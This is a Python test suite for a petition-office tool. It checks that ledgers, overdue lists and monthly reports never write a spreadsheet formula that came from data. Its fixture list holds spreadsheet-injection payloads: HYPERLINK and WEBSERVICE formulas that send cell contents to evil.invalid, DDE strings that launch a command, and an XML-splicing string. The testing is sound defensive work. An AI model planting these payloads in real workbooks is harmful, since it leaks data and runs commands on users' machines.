"""No workbook the bot writes contains a formula that came from data.

The whole hostile corpus (tests/data/hostile/hostile.json, its raw strings, unparsed: control
characters, "\\t=1+1", "=cmd|' /C calc'!A0", ...) plus the tricks the corpus lacks (the HYPERLINK
title that mails a cell to a stranger, "\\r=", full-width "＝", a string shaped like XlsxWriter's
rich-text XML) goes through every workbook writer: the ledger (台账, 打印, 校验 with a clerk's
hostile typing, 统计, a clerk's own sheet, the outgoing copy), the supervisors' overdue list and
the monthly report. Every .xlsx is then read back two ways: openpyxl (no cell of type "f") and
the raw sheet XML (no <f> element at all). Formula-looking text is a string cell with Excel's
quote-prefix style, and reads back exactly as written: no apostrophe added to the text.
"""

from __future__ import annotations

import json
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from core.clock import FixedClock
from core.model import Petitioner, petition_from_dict
from flows.analysis import taxonomy
from flows.analysis.report import monthly_report
from flows.analysis.settings import AnalysisSettings
from flows.deadlines import build_engine, default_engine
from flows.ledger import LedgerDeadlines, LedgerSettings, sync_ledger
from flows.reminders.flow import run_reminders
from flows.reminders.settings import Contact, ReminderSettings
from flows.runs import Run
from flows.store.sqlite import SqliteStore
from flows.workbook import looks_like_formula

CORPUS = Path(__file__).resolve().parents[1] / "data" / "hostile" / "hostile.json"
HYPERLINK = '=HYPERLINK("http://evil.invalid/x?"&A1,"点击查看详情")'
RICH = '<r><t xml:space="preserve">x</t></r></is><f>1+1</f><is><r><t>y</t></r>'  # XlsxWriter's rich-text shape
EXTRA = [HYPERLINK, "=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "@cmd", "-2+3", "+86 138", RICH,
         "=WEBSERVICE(\"http://evil.invalid/\"&A2)", "=DDE(\"cmd\";\"/C calc\";\"A0\")"]
TODAY = datetime(2026, 12, 1, 9, 0)
TEXT_FIELDS = ("title", "content", "demand", "assigning_office", "handover_no", "locality", "category")


def _date(value, fallback: str) -> str:
    try:
        return date.fromisoformat(str(value)).isoformat()
    except ValueError:
        return fallback


def _corpus() -> list:
    data = json.loads(CORPUS.read_text(encoding="utf-8"))
    raw = [p for p in data["petitions"]]
    raw += [dict(raw[0], ref=f"EXTRA{n:02d}", **{f: s for f in TEXT_FIELDS},
                 petitioners=[{"name": s[:20], "id_number": "330110198001010018", "phone": s[:20], "address": s}])
            for n, s in enumerate(EXTRA)]
    seen, out = set(), []
    for n, d in enumerate(raw):
        if d["ref"] in seen:
            continue
        seen.add(d["ref"])
        # Raw strings, as hostile as they come; only dates and the headcount are made usable (the point here is text).
        headcount = d.get("headcount")
        d = dict(d, headcount=headcount if isinstance(headcount, int) and headcount > 0 else 1,
                 received_on=_date(d.get("received_on"), "2026-11-02"),
                 assigned_on=_date(d.get("assigned_on"), "2026-11-03"), due_on=None, attachments=[],
                 petitioners=[p if isinstance(p, dict) else {} for p in d.get("petitioners", [])])
        p = petition_from_dict(d)
        p.petitioners = [Petitioner(**{k: str(v) for k, v in x.__dict__.items()}) for x in p.petitioners]
        # the unit, the clerk's own columns: data as hostile as the upstream's
        s = EXTRA[n % len(EXTRA)]
        p.responsible_unit = s if n % 3 == 0 else "永福村村委会"
        p.clerk = {"remarks": s, "reminder_log": s, "responsible_person": s[:10], "handling_status": "办理中"}
        out.append(p)
    return out


def _strings_of_corpus() -> set[str]:
    data = json.loads(CORPUS.read_text(encoding="utf-8"))

    def walk(v):
        if isinstance(v, str):
            yield v
        elif isinstance(v, dict):
            for x in v.values():
                yield from walk(x)
        elif isinstance(v, list):
            for x in v:
                yield from walk(x)

    return {s for s in walk(data["petitions"]) if looks_like_formula(s)} | set(EXTRA)


@pytest.fixture(scope="module")
def books(tmp_path_factory) -> list[Path]:
    root = tmp_path_factory.mktemp("noformula")
    store = SqliteStore(root / "db.sqlite")
    petitions = _corpus()
    for p in petitions:
        store.insert(p, run_id=None, source="upstream")
    # the analysis' own output is data too: a hostile suggestion reaches 分类建议 and the report
    store.replace_analysis([{"ref": p.ref, "category_suggested": EXTRA[i % len(EXTRA)]}
                            for i, p in enumerate(petitions) if i % 2], [], run_id=None, at=FixedClock(TODAY).now())
    clock = FixedClock(TODAY)

    # 1. the ledger, with an outgoing copy; then a clerk types hostile text and adds a sheet
    settings = LedgerSettings.model_validate({"outgoing_copy": "mask"})

    def sync():
        run = Run.start("ledger", root / "runs", clock)
        return sync_ledger(store, settings, clock, run, workdir=root, office="余杭街道信访办",
                           deadlines=LedgerDeadlines(default_engine(), clock.today()))

    result = sync()
    book = result.written[0]
    wb = openpyxl.load_workbook(book)
    ws = wb["台账"]
    head = {c.value: c.column for c in ws[1]}
    for r, s in zip(range(2, 2 + len(EXTRA)), EXTRA, strict=False):
        for column in ("受理日期", "办理状态", "备注"):  # unparseable date and choice -> 校验 shows the text
            cell = ws.cell(r, head[column])
            cell.value = s
            cell.data_type = "s"  # what the clerk typed as text (openpyxl would otherwise make "=..." a formula)
    own = wb.create_sheet("信访员自加表")
    for r, s in enumerate(EXTRA, 1):
        own.cell(r, 1).value = s
        own.cell(r, 1).data_type = "s"
    wb.save(book)
    result = sync()

    # 2. the supervisors' overdue list
    out = root / "reminders"
    run_reminders(store.petitions(include_withdrawn=False), store=store, engine=build_engine(),
                  settings=ReminderSettings(supervisors=[Contact(email="boss@example.gov.cn")]), clock=clock,
                  channels={}, out_dir=out, office="余杭街道信访办", dry_run=True)

    # 3. the monthly report
    monthly_report(store, "2026-11", AnalysisSettings(), taxonomy.load(AnalysisSettings().taxonomy_path()),
                   root / "report", office="余杭街道信访办", today=TODAY.date(), now=TODAY)
    store.close()
    files = sorted(p for p in root.rglob("*.xlsx") if "备份" not in p.parts)
    return files


def test_every_workbook_writer_ran(books):
    names = [p.name for p in books]
    assert any(n.startswith("信访台账") and "外发" not in n for n in names)
    assert any("外发" in n for n in names)
    assert any(n.startswith("超期信访事项清单") for n in names)
    assert any(n.startswith("信访形势分析") for n in names)


def test_no_formula_cell_in_any_workbook(books):
    for path in books:
        wb = openpyxl.load_workbook(path)  # formulas are kept as formulas (data_only=False)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    xml = z.read(name).decode("utf-8")
                    assert not re.search(r"<(?:\w+:)?f[\s>/]", xml), (path.name, name)


def test_formula_looking_text_is_a_quote_prefixed_string_read_back_literally(books):
    wanted = _strings_of_corpus()
    found: dict[str, set[str]] = {}
    for path in books:
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str) and looks_like_formula(c.value):
                        assert c.data_type == "s", (path.name, ws.title, c.coordinate)
                        assert c.quotePrefix, (path.name, ws.title, c.coordinate, c.value)
                        found.setdefault(c.value, set()).add(path.name.split("-")[0].split("2026")[0])
                    if isinstance(c.value, str):
                        assert not c.value.startswith("'="), (path.name, ws.title, c.coordinate, c.value)
    assert HYPERLINK in found and "=1+1" in found
    # the HYPERLINK title, verbatim, in the ledger, the overdue list and the report alike
    assert {"信访台账", "超期信访事项清单", "信访形势分析"} <= found[HYPERLINK], found[HYPERLINK]
    assert len(wanted & set(found)) >= 10


def test_rich_text_shaped_data_stays_text(books):
    for path in books:
        wb = openpyxl.load_workbook(path)
        values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
        if path.name.startswith("信访台账") and "外发" not in path.name:
            assert RICH in values  # 台账 / 打印 / 统计 / 校验: literally, not spliced into the XML
